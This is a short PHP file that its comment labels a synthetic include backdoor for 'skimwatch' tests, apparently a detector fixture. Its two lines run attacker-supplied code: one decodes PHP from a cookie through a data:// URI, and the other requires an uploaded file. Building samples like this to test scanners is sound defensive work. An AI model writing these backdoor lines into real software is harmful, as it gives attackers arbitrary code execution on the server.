<?php
// Synthetic include backdoor for skimwatch tests: code in a data: URI.
include('data://text/plain;base64,' . $_COOKIE['p']);
require_once $_FILES['m']['tmp_name'];
